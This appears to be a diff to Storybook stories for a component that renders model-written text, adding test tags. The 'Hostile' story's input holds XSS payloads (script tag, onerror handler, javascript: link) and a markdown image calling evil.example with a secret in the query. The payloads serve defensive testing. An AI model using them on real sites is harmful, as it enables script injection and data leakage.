@@ -65,6 +65,7 @@ def count(text: str) -> Counter:
 
 /** What a model wrote is words: nothing runs, and no other site is asked for anything. */
 export const Hostile: Story = {
+  tags: ['P24', 'P25'],
   args: {
     text: '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> [点我](javascript:alert(1)) ![小猫](https://evil.example/cat.png?q=secret) [同站](/settings)',
   },
@@ -79,6 +80,7 @@ export const Hostile: Story = {
 
 /** Arabic runs from the right, in its own paragraph only. */
 export const RightToLeft: Story = {
+  tags: ['P32'],
   args: { text: 'English first.\n\nمرحبا بالعالم، هذا نص عربي.\n\n- واحد\n- two' },
   play: async ({ canvas }) => {
     const runs = (words: string | RegExp) => getComputedStyle(canvas.getByText(words)).direction
